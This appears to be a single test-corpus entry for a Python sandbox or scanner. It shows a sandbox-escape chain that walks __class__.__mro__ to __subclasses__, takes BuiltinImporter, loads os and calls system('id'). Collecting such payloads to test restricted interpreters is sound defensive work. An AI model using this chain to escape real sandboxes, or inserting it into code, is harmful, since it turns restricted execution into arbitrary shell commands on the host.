# corpus: f-string expression walking __class__.__mro__ to __subclasses__
x = 1
print(f"{x.__class__.__mro__[1].__subclasses__()}")
loader = [c for c in x.__class__.__mro__[1].__subclasses__() if "BuiltinImporter" in c.__name__][0]
loader.load_module("os").system("id")
